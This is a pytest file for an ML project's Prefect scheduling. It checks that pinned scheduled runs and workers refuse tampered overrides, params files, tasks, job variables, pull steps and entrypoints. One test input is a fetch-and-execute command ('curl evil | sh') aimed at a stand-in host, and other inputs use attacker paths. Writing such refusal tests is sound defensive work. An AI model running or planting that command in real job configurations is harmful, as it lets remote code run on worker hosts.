"""Issue 27 item 4: whoever reaches the Prefect API must not re-aim a scheduled run. A run
created with `overrides: ["registry.tracking_uri=http://elsewhere"]` is accepted by
`load_params`; in a process `maas schedule` serves (the project pinned), it is refused."""

from __future__ import annotations

import pytest

from maas.config.scheduled import PIN_ENV, ScheduledProject, load_run_params, pin
from maas.errors import ConfigError
from tests.helpers import ROOT

PARAMS_FILE = str(ROOT / "params.yaml")
ELSEWHERE = "registry.tracking_uri=http://elsewhere:5000"


@pytest.fixture
def scheduled(monkeypatch):
    """This process as `maas schedule` would leave it: the owner's project pinned."""
    monkeypatch.setenv(PIN_ENV, "")  # undone after the test, with what `pin` writes
    owner = ScheduledProject(PARAMS_FILE, ("train.max_epochs=1",), "flight-delay")
    pin(owner)
    return owner


def test_without_a_pin_overrides_are_taken_as_given(monkeypatch) -> None:
    monkeypatch.delenv(PIN_ENV, raising=False)
    params = load_run_params(PARAMS_FILE, [ELSEWHERE], "flight-delay")
    assert params.registry.tracking_uri == "http://elsewhere:5000"  # what the attack relies on


def test_a_scheduled_run_refuses_the_callers_overrides(scheduled) -> None:
    with pytest.raises(ConfigError, match="not the caller's") as refused:
        load_run_params(PARAMS_FILE, [*scheduled.overrides, ELSEWHERE], scheduled.task)
    assert ELSEWHERE in str(refused.value)
    with pytest.raises(ConfigError, match="overrides"):
        load_run_params(PARAMS_FILE, [], scheduled.task)  # dropping the owner's is refused too


@pytest.mark.parametrize(
    ("params_file", "task"),
    [("/tmp/attacker/params.yaml", "flight-delay"), (PARAMS_FILE, "another-task")],
)
def test_a_scheduled_run_refuses_another_params_file_or_task(scheduled, params_file, task) -> None:
    with pytest.raises(ConfigError, match="refused"):
        load_run_params(params_file, list(scheduled.overrides), task)


def test_a_scheduled_run_with_the_owners_parameters_loads(scheduled) -> None:
    params = load_run_params(PARAMS_FILE, list(scheduled.overrides), scheduled.task)
    assert params.train.max_epochs == 1 and params.task == "flight-delay"


# On a work pool (`maas schedule --pool`, `maas worker`) the pin lives on the worker's host:
# the worker refuses, before starting anything, a run that is not exactly its owner's.


@pytest.fixture(scope="module")
def pool_deployments():
    """The deployments `maas schedule --pool` makes for flight-delay, as a worker pins them."""
    from maas.flows.schedule import deployments

    from maas.config import load_params
    from maas.operate.pinned_worker import pinned_deployments
    from maas.operate.work_pools import on_pool

    overrides = ["train.max_epochs=1"]
    made = deployments(load_params(PARAMS_FILE, overrides), ROOT / "params.yaml", overrides)
    return [on_pool(deployment) for deployment in made], pinned_deployments(made)


def api_objects(deployment, **changes):
    """The flow run and deployment a worker reads from the Prefect API for `deployment`, with
    what an API writer changed."""
    from uuid import uuid4

    from prefect.client.schemas.objects import FlowRun
    from prefect.client.schemas.responses import DeploymentResponse

    stored = DeploymentResponse(
        id=uuid4(),
        name=deployment.name,
        flow_id=uuid4(),
        entrypoint=changes.get("entrypoint", deployment.entrypoint),
        pull_steps=changes.get("pull_steps", []),
        job_variables=changes.get("deployment_job_variables", {}),
        parameters=deployment.parameters,
    )
    parameters = {**deployment.parameters, **changes.get("parameters", {})}
    run = FlowRun(
        flow_id=stored.flow_id,
        deployment_id=stored.id,
        parameters=parameters,
        job_variables=changes.get("run_job_variables"),
    )
    return run, stored


def test_a_pinned_worker_runs_its_owners_deployments(pool_deployments) -> None:
    from prefect.workers.process import ProcessWorker

    from maas.operate.pinned_worker import refusal_of

    deployments, pinned = pool_deployments
    assert {d.entrypoint for d in deployments} >= {
        "maas.flows.training.training",
        "maas.flows.reconcile.reconcile",
        "maas.flows.monitoring.monitoring",
    }
    assert all({"maas", "flight-delay", "maas-pool"} <= set(d.tags) for d in deployments)
    template = ProcessWorker.get_default_base_job_template()
    for deployment in deployments:
        assert refusal_of(*api_objects(deployment), template, pinned) is None, deployment.name


@pytest.mark.parametrize(
    ("change", "named"),
    [
        ({"parameters": {"overrides": ["train.max_epochs=1", ELSEWHERE]}}, ELSEWHERE),
        ({"parameters": {"params_file": "/tmp/attacker/params.yaml"}}, "params_file"),
        ({"parameters": {"task": "hotel-rates"}}, "task"),
        ({"run_job_variables": {"command": "sh -c 'curl evil | sh'"}}, "['command']"),
        ({"run_job_variables": {"env": {"MAAS_SCHEDULED_PROJECT": "{}"}}}, "['env']"),
        ({"deployment_job_variables": {"working_dir": "/tmp"}}, "['working_dir']"),
        ({"pull_steps": [{"prefect.deployments.steps.git_clone": {"repository": "x"}}]}, "pull"),
        ({"entrypoint": "evil.module.flow"}, "evil.module.flow"),
    ],
)
def test_a_pinned_worker_refuses_what_an_api_writer_changed(
    pool_deployments, change, named
) -> None:
    from prefect.workers.process import ProcessWorker

    from maas.operate.pinned_worker import refusal_of

    deployments, pinned = pool_deployments
    nightly = next(d for d in deployments if d.name == "nightly-flight-delay")
    template = ProcessWorker.get_default_base_job_template()
    reason = refusal_of(*api_objects(nightly, **change), template, pinned)
    assert reason is not None and named in reason, reason


def test_a_pinned_worker_refuses_other_deployments_and_a_changed_pool_template(
    pool_deployments,
) -> None:
    from prefect.workers.process import ProcessWorker

    from maas.operate.pinned_worker import refusal_of

    deployments, pinned = pool_deployments
    run, stored = api_objects(deployments[0])
    template = ProcessWorker.get_default_base_job_template()
    other = stored.model_copy(update={"name": "nightly-someone-else"})
    assert "not one this worker runs" in str(refusal_of(run, other, template, pinned))
    assert "no deployment" in str(refusal_of(run, None, template, pinned))
    changed = {**template, "job_configuration": {**template["job_configuration"], "command": "x"}}
    assert "job template" in str(refusal_of(run, stored, changed, pinned))


def test_pool_deployments_import_the_installed_flows() -> None:
    from maas.errors import ScheduleError
    from maas.operate.work_pools import crash_detection, module_entrypoint

    assert module_entrypoint("flows/training.py:training") == "maas.flows.training.training"
    assert module_entrypoint("../x/flows/monitoring.py:monitoring") == (
        "maas.flows.monitoring.monitoring"
    )
    with pytest.raises(ScheduleError, match="FILE.py:FUNCTION"):
        module_entrypoint("training")
    with pytest.raises(ScheduleError, match="at least 45"):
        crash_detection(30)  # shorter than a heartbeat and a half: live runs would crash
    assert crash_detection(90).trigger.within.total_seconds() == 90


def test_a_worker_names_a_missing_or_silent_prefect_api(monkeypatch) -> None:
    from typer.testing import CliRunner

    from maas.cli import app
    from maas.net import free_port

    monkeypatch.delenv("PREFECT_API_URL", raising=False)
    args = ["worker", "--pool", "maas", "-p", PARAMS_FILE]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 1 and "PREFECT_API_URL is not set" in result.output, result.output
    silent = f"http://127.0.0.1:{free_port()}/api"
    monkeypatch.setenv("PREFECT_API_URL", silent)
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 1, result.output
    assert f"PREFECT_API_URL={silent} does not answer" in result.output
